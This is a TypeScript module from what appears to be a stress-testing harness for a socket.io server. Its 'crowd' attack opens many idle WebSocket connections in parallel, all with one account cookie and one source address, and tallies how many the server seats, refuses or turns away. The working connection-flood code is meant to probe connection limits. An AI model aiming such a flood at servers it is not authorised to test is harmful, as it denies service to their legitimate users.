import { WebSocket } from 'ws'
import type { Attack, Target } from './main.ts'

/** How many try to get in at the same time. */
const AT_ONCE = 50

/** As many sockets as it can get, all from one address and of one account, which then do nothing. */
export const crowd: Attack = (target) => {
  const seen = { tried: 0, seated: 0, refused: 0, 'turned away': 0, lost: 0 }
  const keep = async () => {
    while (seen.tried < target.count) {
      seen.tried += 1
      await enter(target, seen)
    }
  }
  for (let n = 0; n < AT_ONCE; n++) void keep()
  return () => seen
}

/** Tries to get in; settles when it is known how that went. */
function enter({ host, port, cookie, from }: Target, seen: Record<string, number>): Promise<void> {
  const count = (what: string, by = 1) => {
    seen[what] = (seen[what] ?? 0) + by
  }
  return new Promise((resolve) => {
    const headers = { cookie, origin: `http://${host}:${port}` }
    const address = `ws://${host}:${port}/socket.io/?EIO=4&transport=websocket`
    const socket = new WebSocket(address, { headers, perMessageDeflate: false, localAddress: from })
    let seated = false
    socket.on('error', () => {})
    socket.on('close', () => {
      if (seated) count('lost')
      resolve()
    })
    socket.on('unexpected-response', () => {
      count('turned away')
      socket.terminate()
    })
    socket.on('open', () => socket.send('40'))
    socket.on('message', (data) => {
      const frame = String(data)
      if (frame === '2') socket.send('3')
      if (frame.startsWith('44')) count('refused')
      if (!frame.includes('"connected"')) return
      seated = true
      count('seated')
      resolve()
    })
  })
}
